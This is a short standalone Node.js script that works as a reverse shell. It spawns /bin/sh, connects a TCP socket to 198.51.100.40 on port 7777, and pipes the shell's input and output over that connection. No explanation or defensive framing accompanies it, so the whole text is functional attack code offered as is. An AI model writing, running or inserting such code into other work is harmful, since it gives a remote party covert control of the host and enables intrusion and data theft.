const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(7777, '198.51.100.40', () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
